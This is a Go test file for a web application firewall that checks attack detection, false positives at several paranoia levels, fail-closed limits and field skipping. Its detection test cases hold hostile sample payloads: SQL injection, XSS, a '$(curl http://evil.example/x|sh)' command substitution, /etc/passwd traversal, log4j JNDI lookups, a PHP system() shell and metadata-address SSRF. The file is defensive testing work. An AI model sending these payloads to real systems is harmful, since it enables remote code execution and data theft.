package waf

import (
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/crenel-project/crenel/config"
	"github.com/crenel-project/crenel/internal/exchange"
	"github.com/crenel-project/crenel/internal/spec"
	"github.com/crenel-project/crenel/internal/value"
)

// paranoid are guards by inspection and paranoia level, made once: compiling the
// rules is slow.
var paranoid [2][5]struct {
	once  sync.Once
	guard *Guard
	err   error
}

func at(t testing.TB, level int) *Guard { return made(t, config.WAFTuned, level) }

func exactAt(t testing.TB, level int) *Guard { return made(t, config.WAFExact, level) }

func made(t testing.TB, inspection string, level int) *Guard {
	t.Helper()
	p := &paranoid[0][level]
	if inspection == config.WAFExact {
		p = &paranoid[1][level]
	}
	p.once.Do(func() {
		p.guard, p.err = New(Options{API: testAPI(), Config: config.WAF{Inspection: inspection, Paranoia: level, Value: 1 << 20, Budget: time.Minute, Timeout: time.Minute}})
	})
	if p.err != nil {
		t.Fatal(p.err)
	}
	return p.guard
}

func testAPI() *spec.API {
	json := &spec.Body{Content: []*spec.MediaType{{Type: "application/json"}, {Type: "application/vnd.notes+json"}}}
	return &spec.API{Operations: []*spec.Operation{
		{Index: 0, ID: "createNote", Method: "POST", Path: "/notes", Body: json},
		{Index: 1, ID: "getNote", Method: "GET", Path: "/notes/{id}", PathParams: []*spec.Parameter{{Name: "id", In: "path"}}},
		{Index: 2, ID: "putNote", Method: "PUT", Path: "/notes/{id}", Body: json, PathParams: []*spec.Parameter{{Name: "id", In: "path"}}},
		{Index: 3, ID: "sendForm", Method: "POST", Path: "/form"},
	}}
}

// request makes an exchange as the data plane and the contract leave it.
func request(t testing.TB, op int, query, body string, header ...string) *exchange.Exchange {
	t.Helper()
	api := testAPI()
	x := &exchange.Exchange{ID: "r1", Spec: api, Client: netip.MustParseAddr("203.0.113.7"), Operation: api.Operations[op], Request: exchange.Request{
		Method: api.Operations[op].Method, Scheme: "https", Host: "api.example.com", Proto: "HTTP/2.0",
		Path: strings.ReplaceAll(api.Operations[op].Path, "{id}", "7"), Query: query,
		Header: http.Header{"User-Agent": {"curl/8.5.0"}, "Accept": {"*/*"}},
	}}
	x.Request.RawPath = x.Request.Path
	if len(api.Operations[op].PathParams) > 0 {
		x.Request.PathParams = []string{"7"}
	}
	for i := 0; i+1 < len(header); i += 2 {
		x.Request.Header.Add(header[i], header[i+1])
	}
	if body != "" {
		b := &exchange.Body{Bytes: []byte(body), MediaType: "application/json"}
		var err error
		if op == 3 {
			b.MediaType = "application/x-www-form-urlencoded"
			b.Root, err = value.Form(b.Bytes, value.Limits{})
		} else {
			b.Declared = api.Operations[op].Body.Content[0]
			b.Root, err = value.JSON(b.Bytes, value.Limits{})
		}
		if err != nil {
			t.Fatal(err)
		}
		x.Request.Body = b
		x.Request.Header.Set("Content-Type", b.MediaType)
		x.Request.Header.Set("Content-Length", "5")
	}
	return x
}

func path(t testing.TB, id string) *exchange.Exchange {
	x := request(t, 1, "", "")
	x.Request.PathParams = []string{id}
	return x
}

func TestAttacks(t *testing.T) {
	g := at(t, 1)
	for name, c := range map[string]struct {
		x  *exchange.Exchange
		at string
	}{
		"sql in a query":            {request(t, 1, "q=1%27%20OR%20%271%27%3D%271", ""), "query:q"},
		"sql union in a body":       {request(t, 0, "", `{"text":"x' UNION SELECT password FROM users--"}`), "/text"},
		"sql, nested":               {request(t, 0, "", `{"a":[{"b":"ok"},{"b":"1; DROP TABLE users; --' OR 1=1"}]}`), "/a/1/b"},
		"sql in a path parameter":   {path(t, "7' OR '1'='1"), "path:id"},
		"sql, escaped in json":      {request(t, 0, "", `{"text":"1\u0027 \u004fR 1=1 -- "}`), "/text"},
		"xss":                       {request(t, 0, "", `{"text":"<script>alert(1)</script>"}`), "/text"},
		"xss, event":                {request(t, 0, "", `{"text":"<img src=x onerror=alert(1)>"}`), "/text"},
		"command":                   {request(t, 0, "", `{"host":"8.8.8.8; cat /etc/passwd"}`), "/host"},
		"command, substitution":     {request(t, 0, "", `{"host":"$(curl http://evil.example/x|sh)"}`), "/host"},
		"path traversal":            {request(t, 1, "file=../../../../etc/passwd", ""), "query:file"},
		"template":                  {request(t, 0, "", `{"name":"${jndi:ldap://evil.example/a}"}`), "/name"},
		"log4j in a header":         {request(t, 1, "", "", "X-Trace", "${jndi:ldap://evil.example/a}"), "header:x-trace"},
		"cookie":                    {request(t, 1, "", "", "Cookie", "theme=dark; sort=1' UNION SELECT 1,2,3--"), "cookie:sort"},
		"php":                       {request(t, 0, "", `{"text":"<?php system($_GET['c']); ?>"}`), "/text"},
		"node":                      {request(t, 0, "", `{"text":"require('child_process').exec('id')"}`), "/text"},
		"form field":                {request(t, 3, "", "name=x&note=%3Cscript%3Ealert(1)%3C/script%3E"), "/note"},
		"a name":                    {request(t, 0, "", `{"<script>alert(1)</script>":1}`), "/<script>alert(1)<~1script>"},
		"a name above an object":    {request(t, 0, "", `{"x' UNION SELECT password FROM users--":{"a":1}}`), "/x' UNION SELECT password FROM users--/a"},
		"prototype":                 {request(t, 0, "", `{"text":"__proto__[admin]=constructor.prototype"}`), "/text"},
		"scanner":                   {request(t, 1, "", "", "User-Agent", "sqlmap/1.7"), "header:user-agent"},
		"response splitting":        {request(t, 1, "q=a%0d%0aSet-Cookie:%20x=1", ""), "query:q"},
		"undecodable query":         {request(t, 1, "q=%zz<script>alert(1)</script>", ""), "query:q"},
		"unknown content type":      {request(t, 0, "", `{"text":"<svg/onload=alert(1)>"}`, "Content-Type", "application/vnd.notes+json"), "/text"},
		"nosql operator as a value": {request(t, 0, "", `{"text":"{\"$where\":\"sleep(5000)\"}"}`), "/text"},
	} {
		t.Run(name, func(t *testing.T) {
			v := g.rule(t.Context(), c.x)
			if v.Code != "waf.attack" {
				t.Fatalf("got %+v", v)
			}
			if v.At != c.at {
				t.Errorf("at %q, want %q (%v)", v.At, c.at, v.Detail)
			}
			rules, _ := v.Detail["rules"].([]int)
			if score, _ := v.Detail["score"].(int); len(rules) == 0 || score < 5 {
				t.Errorf("detail %v", v.Detail)
			}
		})
	}
}

// honest are values that look a little like attacks and are none. The level is
// the highest paranoia level at which each passes the exact inspection, as CRS 4.25
// has it: 0 are its false positives at PL1, which docs/guards/waf.md lists.
var honest = []struct {
	level int
	text  string
}{
	{4, "hello"}, {3, "O'Brien"}, {3, "D'Angelo & Sons, Ltd."}, {3, "select a union of drop-off points"},
	{1, "https://example.com/track?id=7&lang=en"}, {1, "# Title\n\n* one\n* two\n\n[link](https://example.com) and `code`"},
	{1, "SGVsbG8sIHdvcmxkISBUaGlzIGlzIGJhc2U2NA=="}, {1, `{"nested":"json","n":1}`}, {1, "ring the bell -- twice, then wait"},
	{1, "1 or 2 parcels and 3 letters"}, {2, "50% off"}, {1, "C:\\Users\\alice\\Documents"}, {1, "a < b and b > c"},
	{2, "Müller-Lüdenscheidt, Straße 5"}, {2, "東京都渋谷区"}, {2, "😀 great service!!!"}, {3, "+49 (0)30 123456"},
	{3, "alice@example.com"}, {4, "2026-01-02T03:04:05Z"}, {4, "550e8400-e29b-41d4-a716-446655440000"},
	{2, "It's the driver's fault, isn't it?"}, {1, "I love <3 this & that"}, {2, "Café \"Zur Post\""},
	{1, "Where is my parcel? Order by mail from last week"}, {1, "Fish & Chips; large"}, {3, "let x = 5;"},
	{3, "the script failed to execute"}, {3, "My cat sat on the mat"}, {3, "on click of the button nothing happens"}, {4, "-1"},
	{3, "insert coin into slot and select from menu"}, {3, "100,000.50 EUR"}, {4, "key=value&other=thing"}, {1, "<b>bold</b> offer"},

	{0, "Please update the order table by Friday; drop the rest at the depot."}, // 942350
}

// tunedUpTo are those that the tuned inspection refuses from some level on; all
// others pass it at every level.
var tunedUpTo = map[string]int{
	"1 or 2 parcels and 3 letters":                                         1, // 942390
	"Where is my parcel? Order by mail from last week":                     1, // 942380
	"Please update the order table by Friday; drop the rest at the depot.": 0, // 942350
}

func TestHonestValues(t *testing.T) {
	for _, c := range honest {
		quoted := string(value.AppendString(nil, c.text))
		for level := 1; level <= 4; level++ {
			v := exactAt(t, level).rule(t.Context(), request(t, 0, "", `{"text":`+quoted+`}`))
			if pass := v.Action == exchange.Allow; pass != (level <= c.level) {
				t.Errorf("%q, exact at level %d: pass %v %v, the table says up to %d", c.text, level, pass, v.Detail, c.level)
			}
			upTo, listed := tunedUpTo[c.text]
			if !listed {
				upTo = 4
			}
			v = at(t, level).rule(t.Context(), request(t, 0, "", `{"text":`+quoted+`}`))
			if pass := v.Action == exchange.Allow; pass != (level <= upTo) {
				t.Errorf("%q, tuned at level %d: pass %v %v, the table says up to %d", c.text, level, pass, v.Detail, upTo)
			}
		}
	}
}

// Calls as honest clients make them must score nothing at PL1, whatever their
// transport looks like.
func TestHonestCallsScoreNothing(t *testing.T) {
	bare := request(t, 0, "", `{"text":"hi"}`)
	bare.Request.Header = http.Header{}
	byAddress := request(t, 2, "", `{"text":"hi","n":4294967295,"ok":true,"none":null,"list":[1,2,"three"]}`)
	byAddress.Request.Host = "192.0.2.1"
	vendor := request(t, 2, "", `{"text":"hi"}`)
	vendor.Request.Body.MediaType = "application/vnd.notes+json"
	vendor.Request.Header.Set("Content-Type", "application/vnd.notes+json; charset=utf-8")
	shadow := request(t, 1, "", "")
	shadow.Operation, shadow.Request.Method = nil, "PATCH"
	uuid := path(t, "550e8400-e29b-41d4-a716-446655440000")
	for name, x := range map[string]*exchange.Exchange{
		"no headers at all": bare, "host is an address, PUT": byAddress, "vendor type": vendor, "no operation": shadow, "uuid": uuid,
		"query":   request(t, 1, "limit=10&sort=-created&fields=id,name&filter%5Bstate%5D=open&from=2026-01-02T03:04:05%2B01:00", ""),
		"form":    request(t, 3, "", "name=Jane+Doe&city=K%C3%B6ln"),
		"browser": request(t, 1, "", "", "Referer", "https://app.example.com/notes?tab=1", "Origin", "https://app.example.com", "Accept-Language", "de-DE,de;q=0.9,en;q=0.8", "Cookie", "theme=dark; lang=de", "Sec-Fetch-Mode", "cors", "If-None-Match", `W/"abc"`),
		"traced":  request(t, 1, "", "", "Traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "X-Request-Id", "01JD2Q0V7W8X9Y0Z1A2B3C4D5E", "Idempotency-Key", "7f9c"),
		"large":   request(t, 0, "", `{"text":"hi"}`, "Expect", "100-continue"),
		"bearer":  request(t, 1, "", "", "Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJhbGljZSIsInNjb3BlIjoiYSBiIn0.c2lnbmF0dXJlLXdpdGgtXy1kYXNoZXM"),
	} {
		t.Run(name, func(t *testing.T) {
			if v := at(t, 1).rule(t.Context(), x); v.Action != exchange.Allow || v.Detail != nil {
				t.Errorf("got %+v", v)
			}
		})
	}
}

// Whoever is told of a restricted field must be able to find it, and to skip it.
func TestRestrictedHeaderIsNamed(t *testing.T) {
	for field, where := range map[string]string{"Content-Range": "header:content-range", "X-Http-Method-Override": "header:x-http-method-override"} {
		v := at(t, 1).rule(t.Context(), request(t, 2, "", `{"text":"hi"}`, field, "x", "Zzz", "1", "Aaa", "1"))
		if v.Code != "waf.attack" || v.At != where {
			t.Errorf("%s: got %+v", field, v)
		}
	}
}

// The fail-closed rows: whatever cannot be inspected whole is refused.
func TestWhatCannotBeInspectedIsRefused(t *testing.T) {
	cfg := config.WAF{Value: 100, Values: 20, Budget: time.Minute, Timeout: time.Minute}
	g, err := New(Options{API: testAPI(), Config: cfg})
	if err != nil {
		t.Fatal(err)
	}
	defer closed(t, g)
	long := strings.Repeat("a", 101)
	many := `["` + strings.Repeat(`x","`, 25) + `x"]`
	for name, c := range map[string]struct {
		x    *exchange.Exchange
		code string
		at   string
	}{
		"a long value":         {request(t, 0, "", `{"text":"`+long+`"}`), "waf.too_long", "/text"},
		"a long name":          {request(t, 0, "", `{"`+long+`":1}`), "waf.too_long", "/" + long},
		"a long query value":   {request(t, 1, "q="+long, ""), "waf.too_long", "query:q"},
		"a long header":        {request(t, 1, "", "", "X-A", long), "waf.too_long", "header:x-a"},
		"a long cookie":        {request(t, 1, "", "", "Cookie", "a="+long), "waf.too_long", "cookie:a"},
		"a long path":          {path(t, long), "waf.too_long", "path:id"},
		"many values":          {request(t, 0, "", many), "waf.too_many", "/17"},
		"many query arguments": {request(t, 1, strings.Repeat("a=1&", 30), ""), "waf.too_many", "query:"},
	} {
		t.Run(name, func(t *testing.T) {
			v := g.rule(t.Context(), c.x)
			if v.Action != exchange.Deny || v.Code != c.code || v.At != c.at {
				t.Errorf("got %s %q at %q, want %q at %q", v.Action, v.Code, v.At, c.code, c.at)
			}
		})
	}
	// All that was collected reached the engine: none fell to its own limit.
	all := make([]field, cfg.Values)
	for i := range all {
		all[i] = field{src: fromBody, name: "f", at: "/f", text: "x"}
	}
	all[len(all)-1].text = "<script>alert(1)</script>"
	if v := g.inspect(t.Context(), request(t, 0, "", ""), ruling{fields: all}); v.Code != "waf.attack" {
		t.Errorf("an attack in the last of the values allowed was missed: %+v", v)
	}
}

func TestSkip(t *testing.T) {
	g, err := New(Options{API: testAPI(), Config: config.WAF{Skip: []string{"createNote /text", "POST /notes /list/*/html", "getNote query:q", "getNote header:x-sql"}}})
	if err != nil {
		t.Fatal(err)
	}
	defer closed(t, g)
	const sql = `' UNION SELECT password FROM users--`
	for name, c := range map[string]struct {
		x    *exchange.Exchange
		pass bool
	}{
		"skipped":                  {request(t, 0, "", `{"text":"`+sql+`"}`), true},
		"another field":            {request(t, 0, "", `{"other":"`+sql+`"}`), false},
		"below the skipped":        {request(t, 0, "", `{"text":{"a":"`+sql+`"}}`), false},
		"another operation":        {request(t, 2, "", `{"text":"`+sql+`"}`), false},
		"any index":                {request(t, 0, "", `{"list":[{"html":"x"},{"html":"<script>alert(1)</script>"}]}`), true},
		"beside any index":         {request(t, 0, "", `{"list":[{"text":"<script>alert(1)</script>"}]}`), false},
		"query":                    {request(t, 1, "q=%27+UNION+SELECT+password+FROM+users--", ""), true},
		"another query parameter":  {request(t, 1, "p=%27+UNION+SELECT+password+FROM+users--", ""), false},
		"header":                   {request(t, 1, "", "", "X-Sql", "${jndi:ldap://x/a}"), true},
		"the same for another one": {request(t, 2, "", "", "X-Sql", "${jndi:ldap://x/a}"), false},
	} {
		t.Run(name, func(t *testing.T) {
			if v := g.rule(t.Context(), c.x); (v.Action == exchange.Allow) != c.pass {
				t.Errorf("got %+v", v)
			}
		})
	}
	for _, bad := range []string{"nowhere /text", "/text"} {
		if _, err := New(Options{API: testAPI(), Config: config.WAF{Skip: []string{bad}}}); err == nil {
			t.Errorf("skip %q was accepted", bad)
		}
	}
}

// Nothing of what matched may be recorded: it can be a password.
func TestMatchedDataIsNotRecorded(t *testing.T) {
	x := request(t, 0, "", `{"password":"hunter2' OR 1=1--","card":"4111111111111111' UNION SELECT 1"}`)
	v := at(t, 1).rule(t.Context(), x)
	if v.Code != "waf.attack" {
		t.Fatalf("got %+v", v)
	}
	if all := fmt.Sprintf("%+v", v); strings.Contains(all, "hunter2") || strings.Contains(all, "4111") || strings.Contains(all, "OR 1=1") {
		t.Errorf("the verdict holds what matched: %s", all)
	}
}

func TestProvenCredentialsAreNotInspected(t *testing.T) {
	const odd = "sid' UNION SELECT 1,2--"
	x := request(t, 1, "", "", "Cookie", "sid="+odd, "X-Key", odd)
	x.Request.Credentials = []exchange.CredentialPlace{{In: "cookie", Name: "sid"}, {In: "header", Name: "x-key"}}
	x.Identity = exchange.Identity{Method: "own", Credential: "digest"}
	if v := at(t, 1).rule(t.Context(), x); v.Code != "waf.attack" {
		t.Errorf("an unverified credential was not inspected: %+v", v)
	}
	x.Identity.Verified = true
	if v := at(t, 1).rule(t.Context(), x); v.Action != exchange.Allow {
		t.Errorf("a verified credential was inspected: %+v", v)
	}
	// Beside a verified one stands what nothing verified, and a cookie whose name differs in case.
	x.Request.Credentials[0].Unproven = true
	if v := at(t, 1).rule(t.Context(), x); v.Code != "waf.attack" {
		t.Errorf("an unproven credential was not inspected: %+v", v)
	}
	x = request(t, 1, "", "", "Cookie", "SID="+odd)
	x.Request.Credentials = []exchange.CredentialPlace{{In: "cookie", Name: "sid"}}
	x.Identity = exchange.Identity{Method: "own", Credential: "digest", Verified: true}
	if v := at(t, 1).rule(t.Context(), x); v.Code != "waf.attack" {
		t.Errorf("a cookie of another name was not inspected: %+v", v)
	}
}

func TestSSRFInARequest(t *testing.T) {
	v := at(t, 1).rule(t.Context(), request(t, 0, "", `{"hooks":["https://example.com/a","http://169.254.169.254/latest/"]}`))
	if v.Code != "waf.ssrf" || v.At != "/hooks/1" {
		t.Errorf("got %+v", v)
	}
	v = at(t, 1).rule(t.Context(), request(t, 1, "url=http%3A%2F%2Flocalhost%3A9000", ""))
	if v.Code != "waf.ssrf" || v.At != "query:url" {
		t.Errorf("got %+v", v)
	}
	v = at(t, 1).rule(t.Context(), request(t, 1, "", "", "Referer", "http://localhost:3000/app", "Origin", "http://localhost:3000"))
	if v.Action != exchange.Allow {
		t.Errorf("where the caller comes from was refused: %+v", v)
	}
}

func TestCustomRules(t *testing.T) {
	file := filepath.Join(t.TempDir(), "own.conf")
	write := func(s string) {
		if err := os.WriteFile(file, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(`SecRule ARGS:json.text "@contains forbidden fruit" "id:10001,phase:2,deny,status:403,severity:CRITICAL,msg:'own'"` + "\n" +
		`SecRule ARGS "@contains apple" "id:10002,phase:2,pass,severity:CRITICAL,msg:'own',setvar:tx.inbound_anomaly_score_pl1=+5"` + "\n")
	g, err := New(Options{API: testAPI(), Config: config.WAF{Rules: []string{file}}})
	if err != nil {
		t.Fatal(err)
	}
	defer closed(t, g)
	for text, want := range map[string]string{"a forbidden fruit": "waf.attack", "an apple": "waf.attack", "a pear": ""} {
		if v := g.rule(t.Context(), request(t, 0, "", `{"text":"`+text+`"}`)); v.Code != want || want != "" && v.At != "/text" {
			t.Errorf("%s: %+v", text, v)
		}
	}
	write("SecRule nonsense")
	if _, err := New(Options{API: testAPI(), Config: config.WAF{Rules: []string{file}}}); err == nil {
		t.Error("a broken rule file was accepted")
	}
	if _, err := New(Options{API: testAPI(), Config: config.WAF{Rules: []string{file + ".none"}}}); err == nil {
		t.Error("a missing rule file was accepted")
	}
}

func TestConcurrentInspections(t *testing.T) {
	g := at(t, 1)
	var wg sync.WaitGroup
	for i := range 4 {
		bad, good := request(t, 0, "", `{"text":"' UNION SELECT password FROM users--"}`), request(t, 0, "", `{"text":"hi"}`)
		wg.Go(func() {
			for range 10 + i {
				if v := g.rule(t.Context(), bad); v.Code != "waf.attack" {
					t.Errorf("missed: %+v", v)
				}
				if v := g.rule(t.Context(), good); v.Action != exchange.Allow {
					t.Errorf("refused: %+v", v)
				}
			}
		})
	}
	wg.Wait()
}

// Reloads must leave nothing behind: the library keeps patterns until it is told.
func TestReloadsDoNotGrow(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles the rule set many times")
	}
	n := 0
	reload := func() {
		n++ // other rules each time: the same would be shared
		g, err := New(Options{API: testAPI(), Config: config.WAF{Values: 1000 + n}})
		if err != nil {
			t.Fatal(err)
		}
		g.rule(t.Context(), request(t, 0, "", `{"text":"hi"}`))
		closed(t, g)
	}
	heap := func() uint64 {
		var m runtime.MemStats
		runtime.GC()
		runtime.GC()
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	for range 3 {
		reload()
	}
	before := heap()
	for range 20 {
		reload()
	}
	if after := heap(); after > before+8<<20 {
		t.Errorf("the heap grew from %d to %d KiB over 20 reloads", before>>10, after>>10)
	}
}

func closed(t *testing.T, g *Guard) {
	t.Helper()
	if err := g.Close(); err != nil {
		t.Error(err)
	}
}

// Whatever JSON comes, every string in it reaches the inspection under a place
// from which the body's own tree finds it again.
func FuzzCollect(f *testing.F) {
	for _, s := range []string{`{"a":[{"b~/":"x"},"y"],"":{"":[[]]}}`, `"s"`, `[[["x"]]]`, `{"a":1,"b":{"c":null}}`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		root, err := value.JSON([]byte(src), value.Limits{})
		if err != nil {
			return
		}
		c := collector{value: 1 << 20, count: 1 << 20}
		if !c.tree(root, "json", "", nil) {
			t.Fatal("over a limit")
		}
		have := map[string]bool{}
		names := map[string]bool{}
		for _, f := range c.fields {
			v := root.At(f.at)
			if v == nil || v.Kind == value.String && v.Text != f.text {
				t.Fatalf("field at %q is not there", f.at)
			}
			have[f.text] = true
			for p := f.at; p != ""; p = p[:strings.LastIndexByte(p, '/')] {
				names[p] = true
			}
		}
		var walk func(v *value.Value, at string)
		walk = func(v *value.Value, at string) {
			if v.Kind == value.String && !have[v.Text] {
				t.Fatalf("string at %q was not collected", at)
			}
			for i := range v.Kids {
				tok := v.Kids[i].Name
				if v.Kind == value.Array {
					tok = strconv.Itoa(i)
				}
				below := at + "/" + value.EscapeToken(tok)
				if v.Kind == value.Object && !names[below] {
					t.Fatalf("name at %q was not collected", below)
				}
				walk(&v.Kids[i], below)
			}
		}
		walk(root, "")
	})
}

func BenchmarkInspect(b *testing.B) {
	g := at(b, 1)
	for name, x := range map[string]*exchange.Exchange{
		"GET":       request(b, 1, "", ""),
		"GET3":      request(b, 1, "a=1&b=two&c=three", ""),
		"POST240":   request(b, 0, "", `{"name":"Jane Doe","street":"Hauptstrasse 12","city":"Berlin","note":"ring the bell twice, then wait for the neighbour to open","weight":12.5,"express":true,"tags":["fragile","glass","gift"],"contact":{"mail":"jane@example.com","phone":"+49 30 123456"}}`),
		"value10KB": request(b, 0, "", `{"text":"`+strings.Repeat("lorem ipsum dolor sit amet ", 380)+`"}`),
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if v := g.rule(b.Context(), x); v.Action != exchange.Allow {
					b.Fatal(v)
				}
			}
		})
	}
}

// A body that no contract has agreed to is inspected whatever it says that it is:
// many APIs read JSON without looking at the content type.
func TestUndeclaredBodies(t *testing.T) {
	const attack = `{"text":"1' UNION SELECT password FROM users--"}`
	declared := &spec.MediaType{Type: "application/octet-stream"}
	for name, c := range map[string]struct {
		body exchange.Body
		want string
	}{
		"as bytes":                {exchange.Body{MediaType: "application/octet-stream", Bytes: []byte(attack)}, "waf.attack"},
		"without a content type":  {exchange.Body{Bytes: []byte(attack)}, "waf.attack"},
		"harmless text":           {exchange.Body{MediaType: "application/octet-stream", Bytes: []byte(`{"text":"good morning"}`)}, ""},
		"a file":                  {exchange.Body{MediaType: "application/octet-stream", Bytes: []byte("\x89PNG\r\n\x1a\n" + attack)}, ""},
		"bytes of the contract":   {exchange.Body{MediaType: "application/octet-stream", Declared: declared, Bytes: []byte(attack)}, ""},
		"a text that streams":     {exchange.Body{MediaType: "application/octet-stream", Partial: true, Bytes: []byte("good morning")}, "waf.too_long"},
		"a file that streams":     {exchange.Body{MediaType: "application/octet-stream", Partial: true, Bytes: []byte("PK\x03\x04")}, ""},
		"a declared one, streams": {exchange.Body{MediaType: "application/octet-stream", Declared: declared, Partial: true, Bytes: []byte(attack)}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			x := request(t, 3, "", "")
			x.Request.Body = &c.body
			if v := at(t, 1).rule(t.Context(), x); v.Code != c.want {
				t.Errorf("%s (%s), want %s", v.Code, v.Reason, c.want)
			}
		})
	}
}
